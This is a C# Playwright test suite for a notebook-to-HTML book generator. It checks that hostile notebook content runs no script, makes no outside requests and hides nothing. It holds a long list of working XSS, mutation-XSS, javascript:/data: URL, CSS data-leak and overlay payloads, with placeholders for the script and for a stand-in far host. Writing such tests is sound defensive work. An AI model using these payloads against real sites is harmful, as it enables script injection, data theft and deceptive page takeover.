using System.Globalization;
using System.Text.Json.Nodes;
using Microsoft.Playwright;
using static ConvNetWorkbook.Tests.NotebookJson;

namespace Book.Tests;

/// <summary>Notebooks that mean harm, or are merely odd, in a real browser.</summary>
public sealed class HostileTests(Browser browser)
{
    // RUN is a statement that would tell that script ran; FAR a server that must not be asked.
    private static readonly string[] Payloads =
    [
        "<script>RUN</script>",
        "<SCRIPT SRC=FAR/x.js></SCRIPT>",
        "<script type=module>RUN</script>",
        "<script type=importmap>{\"imports\":{\"a\":\"FAR/a.js\"}}</script><script type=module>import 'a'</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"FAR/p\"]}]}</script>",
        "<img src=x onerror=\"RUN\">",
        "<img src=FAR/i.png srcset=\"FAR/j.png 2x\" loading=eager>",
        "<picture><source srcset=FAR/s.png><img></picture>",
        "<body onload=RUN><html onclick=RUN>",
        "<details open ontoggle=\"RUN\"><summary>s</summary>d</details>",
        "<a href=\"javascript:RUN\">press</a>",
        "<a href=\"java&#10;script:RUN\">press</a>",
        "<a href=\" &#1;javascript:RUN\">press</a>",
        "<a href=\"data:text/html,<script>RUN</script>\">press</a>",
        "<a href=\"vbscript:RUN\">press</a>",
        "<a href=\"blob:FAR/1\">press</a>",
        "<a ping=FAR/ping href=\"#a\">press</a>",
        "<svg onload=\"RUN\"></svg>",
        "<svg><script>RUN</script></svg>",
        "<svg><a xlink:href=\"javascript:RUN\"><text y=20>press</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\"/></svg>",
        "<svg><image href=FAR/i.svg /></svg>",
        "<svg><animate attributeName=href values=\"javascript:RUN\"/><set attributeName=onload to=RUN /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.RUN</script>\"></iframe></foreignObject></svg>",
        "<svg><style>@import url(FAR/s.css); * { fill: url(FAR/f.svg#a) }</style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
        "<math href=\"javascript:RUN\"><mi>press</mi></math>" +
        "<math><maction actiontype=\"statusline#FAR\" xlink:href=\"javascript:RUN\">click</maction></math>",
        "<math><annotation-xml encoding=\"text/html\"><script>RUN</script></annotation-xml></math>",
        "<custom><svg><custom><style><a id=\"</style><img src=1 onerror=RUN>\"></custom></svg></custom>",
        "<button><xmp><img src=x onerror=RUN></xmp></button><custom><noembed><img src=x onerror=RUN></noembed></custom>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form>",
        "<svg style=\"overflow:visible !important\"><rect x=-999 y=-999 width=9999 height=9999 fill=white /></svg>",
        "<svg><use xlink:href=\"FAR/u.svg#a\"/><rect fill=\"url(FAR/f.svg#a)\" clip-path=\"u\\72l(FAR/c.svg#a)\" /></svg>",
        "<svg><image xlink:href=FAR/i.svg /><marker id=m><path d=M0,0 marker-end=\"url('FAR/m#m')\" /></marker></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
        "<template><script>RUN</script></template><div><template shadowrootmode=open><script>RUN</script></template></div>",
        "<iframe src=FAR/frame></iframe><iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
        "<object data=FAR/o></object><embed src=FAR/e><applet code=FAR></applet>",
        "<object data=\"data:text/html,<script>RUN</script>\"></object>",
        "<form action=FAR/f><input name=a autofocus onfocus=RUN><button formaction=\"javascript:RUN\">press</button></form>",
        "<input type=image src=FAR/i.png><isindex action=FAR>",
        "<meta http-equiv=refresh content=\"0;url=FAR/moved\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<base href=FAR/>",
        "<link rel=stylesheet href=FAR/l.css><link rel=prefetch href=FAR/p><link rel=import href=FAR/i>",
        "<style>header, main { display: none !important }</style>",
        "<style>@import url(FAR/s.css);</style>",
        "<style>@font-face { font-family: a; src: url(FAR/f.woff) } * { font-family: a }</style>",
        "<style>a[href^=\"i\"] { background: url(FAR/leak?i) } body { background: url(FAR/b) }</style>",
        "<style>} header { display: none } @scope (a) {</style>",
        "<style>/* </style><script>RUN</script> */</style>",
        "<style>:root, body, html { display: none } header a { color: transparent; opacity: 0; position: fixed; top: -99px }</style>",
        "<div style=\"position:fixed;inset:0;background:white;z-index:9\">over</div>",
        "<div style=\"background:url(FAR/b.png);width:expression(RUN);-moz-binding:url(FAR/x)\">x</div>",
        "<div style=\"margin-top:-4000px;height:5000px;background:white\">over</div>",
        "<div style=\"margin:calc(0px - 4000px) 0 0;height:5000px;background:white\">over</div>",
        "<div style=\"transform:translateY(-3000px) scale(50);background:white\">over</div>",
        "<div style=\"outline:5000px solid white;box-shadow:0 0 0 5000px white\">over</div>",
        "<a class=\"skip\" style=\"left:0\" href=FAR>over</a><div class=\"toc unseen top\">over</div>",
        "<video src=FAR/v autoplay poster=FAR/p></video><audio src=FAR/a autoplay></audio><track src=FAR/t>",
        "<table background=FAR/t.png><tr><td background=FAR/d.png>x</td></tr></table>",
        "<marquee onstart=RUN>x</marquee><keygen autofocus onfocus=RUN><dialog open onclose=RUN>x</dialog>",
        "<portal src=FAR></portal><fencedframe src=FAR></fencedframe><frameset><frame src=FAR></frameset>",
        "<p id=Plotly name=Plotly></p><a id=convnetPlotly></a><img name=body><form name=cookie></form>",
        "<xmp><script>RUN</script></xmp><plaintext><script>RUN</script>",
        "<textarea autofocus onfocus=RUN></textarea><select onchange=RUN><option>a</select>",
        "<p is=x-y onpointerover=RUN tabindex=0 onfocus=RUN autofocus>x</p><p contenteditable onbeforeinput=RUN>x</p>",
        "<figure class=\"convnet-figure\"><script>RUN</script></figure>",
        "<figure class=\"convnet-window\"><img src=x onerror=\"RUN\"><script type=\"application/json\">{\"a\":\"</script>" +
        "<script>RUN</script>",
        "<div class=\"convnet-view\" onclick=\"RUN\" style=\"position:fixed;inset:0\">pretends</div>",
        "<!--><script>RUN</script>--><![CDATA[<script>RUN</script>]]><?xml <script>RUN</script>?>",
        "\uE0000\uE001<i title=\"&#xE000;0&#xE001;\">&#xE000;0&#xE001;</i>",
        // A library's mark that an author guesses, data that is HTML elsewhere or takes the page's rest for its own.
        DataScript("<meta http-equiv=refresh content=0;url=FAR>") + "<img alt=\"&#xE000;0&#xE001;\"><img alt=\"(0)\">",
        "<svg>" + DataScript("<a onfocus=RUN autofocus tabindex=0>") + "</svg>" +
        "<svg><title>" + DataScript("</title><img src=FAR/t>") + "</title></svg>",
        "<script type=\"application/json\">[\"<!--<script>\"]",
        "<style>a{--x:\"{\n}} header{display:none} b{--y:\"}</style>",
        "<style>a{--q:\"{\";--x:url(data:image/x\" } } header{display:none} b{--y:\"}</style>",
        "<style>a{--x:(} ) } } header{display:none} b{--y:{}</style>" +
        "<style>a{--x:'{';} } header{display:none} @scope (a) { b{--y:'}'}</style>",
        "<div style=\"margin-top:calc(0px - (4000px));height:5000px;background:white\">over</div>",
        "<p title='\"><script>RUN</script>' onclick='RUN'>x<p title=\"`\" onmouseover=RUN>",
        "$\\text{<script>RUN</script>}$ $\\color{red\"><script>RUN</script>}x$ " +
        "$$\\htmlStyle{position:fixed}{x} \\href{javascript:RUN}{x}$$",
        "![x](javascript:RUN) ![x](FAR/p.png) [press](javascript:RUN) [press](<data:text/html,<script>RUN</script>>) <javascript:RUN>",
        "[r]: javascript:RUN\n\n[press][r] ![p][r] [x](https://a.invalid \"onmouseover=RUN\")",
    ];

    private static string DataScript(string text) => $"<script type=\"application/json\">[\"{text}\"]</script>";

    [Fact]
    public async Task Strangers_notebooks_run_nothing_ask_for_nothing_and_hide_nothing()
    {
        var folder = Directory.CreateDirectory(Path.Combine(Browser.Root, "artifacts", "tests", "hostile")).FullName;
        foreach (var old in Directory.EnumerateFiles(folder, "*.ipynb"))
            File.Delete(old);
        for (var index = 0; index < Payloads.Length; index++)
        {
            var payload = Payloads[index].Replace("RUN", "window.hacked=1").Replace("FAR", "https://example.invalid");
            var name = index.ToString("00", CultureInfo.InvariantCulture);
            Make("prose", Markdown($"# Hostile\n\n{payload}\n\nText {payload} text."));
            Make("output", Markdown("# Hostile"), Code("1", Data("text/html", payload), Data("text/markdown", payload)));
            Make("svg", Markdown("# Hostile"), Code("1",
                Data("image/svg+xml", $"<svg xmlns=\"http://www.w3.org/2000/svg\">{payload}</svg>"), Data("text/latex", payload)));

            void Make(string where, params JsonObject[] cells) => Write(Path.Combine(folder, $"{name}-{where}.ipynb"), cells);
        }
        await Browser.MakeBookAsync(Path.Combine(folder, "book"), folder);

        await using var open = await browser.OpenAsync(Path.Combine(folder, "book", "index.html"));
        var wrong = new List<string>();
        foreach (var page in Directory.EnumerateFiles(Path.Combine(folder, "book"), "*-*.html").Order(StringComparer.Ordinal))
            wrong.AddRange((await Troubles(open, page)).Select(trouble => $"{Path.GetFileName(page)}: {trouble}"));
        Assert.Empty(wrong);
    }

    /// <summary>In a page that nothing cleans and no policy guards, what is looked for is there and is seen.</summary>
    [Theory]
    [InlineData("<script>window.hacked=1</script>", "has <script>", "script ran")]
    [InlineData("<p onclick=\"window.hacked=1\">x</p>", "has <p onclick", "script ran")]
    [InlineData("<img src=\"https://example.invalid/i.png\">", "asked for https://example.invalid/i.png")]
    [InlineData("<a href=\"javascript:window.hacked=1\">press</a>", "script ran")]
    [InlineData("<style>header { display: none }</style>", "the header is hidden")]
    [InlineData("<style>header a { opacity: 0 }</style>", "the header has other colours")]
    [InlineData("<div style=\"position:fixed;inset:0;background:white\">over</div>", "the header is hidden")]
    [InlineData("<div style=\"width:9000px\">wide</div>", "the page is too wide")]
    [InlineData("<style>main { display: none }</style>", "the content is hidden")]
    public async Task What_a_hostile_page_does_is_noticed(string payload, params string[] expected)
    {
        var file = Path.Combine(Browser.Folder, "unguarded.html");
        File.WriteAllText(file, $"<!doctype html><header><a href=\"#\">home</a></header><main><h1>Hostile</h1>{payload}</main>");
        try
        {
            await using var open = await browser.OpenAsync("index.html");
            var found = await Troubles(open, file);
            Assert.All(expected, trouble => Assert.Contains(found, one => one.StartsWith(trouble, StringComparison.Ordinal)));
        }
        finally
        {
            File.Delete(file);
        }
    }

    /// <summary>What a page does that it must not: by itself, and when everything on it is pressed.</summary>
    private static async Task<List<string>> Troubles(OpenPage open, string page)
    {
        open.Troubles.Clear();
        var address = new Uri(page).AbsoluteUri;
        await open.Page.GotoAsync(address);
        var found = await open.Page.EvaluateAsync<string[]>(
            """
            async () => {
              const wrong = [];
              const foreign = document.querySelector("main :is(script, iframe, object, embed, base, meta, link, video, audio, form, "
                + "button, template, [onerror], [onclick], [onload])");
              if (foreign) wrong.push("has " + foreign.outerHTML.slice(0, 80));
              const links = [...document.querySelectorAll("main a[href]:not([rel])")]
                .filter(link => !/^https?:/.test(link.getAttribute("href")));
              for (const part of [...links, ...document.querySelectorAll("main :is(summary, p, math, svg)")])
                part.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
              await new Promise(done => setTimeout(done, 30));
              const home = document.querySelector("header a"), box = home.getBoundingClientRect();
              scrollTo(0, 0);
              const middle = home.getBoundingClientRect().top + box.height / 2;
              if (document.elementFromPoint(box.left + 5, middle) !== home) wrong.push("the header is hidden");
              if (document.querySelector("main").getBoundingClientRect().height < 20) wrong.push("the content is hidden");
              const style = getComputedStyle(home);
              if (style.opacity !== "1" || style.position !== "static") wrong.push("the header has other colours");
              if (document.documentElement.scrollWidth > document.documentElement.clientWidth) wrong.push("the page is too wide");
              if (window.hacked) wrong.push("script ran");
              return wrong;
            }
            """);
        return
        [
            .. found,
            .. open.Troubles.Where(trouble =>
                trouble.StartsWith("asked", StringComparison.Ordinal) || trouble.StartsWith("script", StringComparison.Ordinal)),
            .. open.Page.Url.Split('#')[0] == address ? Array.Empty<string>() : [$"went to {open.Page.Url}"],
        ];
    }

    [Fact]
    public async Task A_forged_script_runs_on_no_page_neither_from_a_file_beside_it_nor_written_into_it()
    {
        var forged = Path.Combine(Browser.Folder, "assets", "forged.js");
        File.WriteAllText(forged, "window.forged = true;");
        try
        {
            foreach (var name in Browser.Pages)
            {
                await using var open = await browser.OpenAsync(name);
                var policy = await open.Page.Locator("meta[http-equiv=Content-Security-Policy]").GetAttributeAsync("content");
                Assert.Matches("; script-src ('none'|'sha256-[A-Za-z0-9+/=]{44}'( 'sha256-[A-Za-z0-9+/=]{44}')*);", policy);
                Assert.False(await RunsFile(open.Page) || await RunsText(open.Page), $"The forged script ran on {name}.");
            }
            // Were it not for the policy, both would run.
            await using var unguarded = await browser.OpenAsync("index.html", bypassPolicy: true);
            Assert.True(await RunsFile(unguarded.Page), "A script from a file is not noticed.");
            Assert.True(await RunsText(unguarded.Page), "A script in the page is not noticed.");
        }
        finally
        {
            File.Delete(forged);
        }

        static Task<bool> RunsFile(IPage page) => Runs(page, "script.src = 'assets/forged.js';");
        static Task<bool> RunsText(IPage page) => Runs(page, "script.textContent = 'window.forged = true;'; setTimeout(done);");
    }

    /// <summary>Puts a script into the page and tells whether it ran.</summary>
    private static Task<bool> Runs(IPage page, string fill) => page.EvaluateAsync<bool>(
        $$"""
        async () => {
          window.forged = false;
          await new Promise(done => {
            const script = document.createElement("script");
            script.onload = script.onerror = done;
            {{fill}}
            document.head.append(script);
          });
          return window.forged;
        }
        """);

    [Fact]
    public async Task Errors_and_huge_outputs_fit_a_phone()
    {
        var huge = new string('y', 1_000_000) + string.Concat(Enumerable.Repeat("\nline", 20_000));
        var page = await Page("odd", Markdown("# Odd"),
            Code(new string('x', 3000), new JsonObject { ["output_type"] = "stream", ["name"] = "stdout", ["text"] = huge }),
            Code("throw", new JsonObject
            {
                ["output_type"] = "error",
                ["ename"] = "Error",
                ["evalue"] = new string('z', 5000),
                ["traceback"] = new JsonArray(new string('t', 5000)),
            }),
            Code("2", Data("text/html", $"<table><tr>{string.Concat(Enumerable.Repeat("<td>wide", 300))}</table>")));

        await using var open = await browser.OpenAsync(page, width: 390);

        Assert.True(
            await open.Page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= document.documentElement.clientWidth"),
            "The page is wider than the phone.");
        Assert.True(
            await open.Page.EvaluateAsync<double>("document.body.scrollHeight") < 6000,
            "Huge outputs are not kept in boxes that scroll.");
        Assert.Empty(open.Troubles);
    }

    /// <summary>The page that the runner makes of a notebook.</summary>
    private static async Task<string> Page(string name, params JsonObject[] cells)
    {
        var folder = Directory.CreateDirectory(Path.Combine(Browser.Root, "artifacts", "tests", name)).FullName;
        await Browser.MakeBookAsync(Path.Combine(folder, "book"), Write(Path.Combine(folder, name + ".ipynb"), cells));
        return Path.Combine(folder, "book", name + ".html");
    }
}
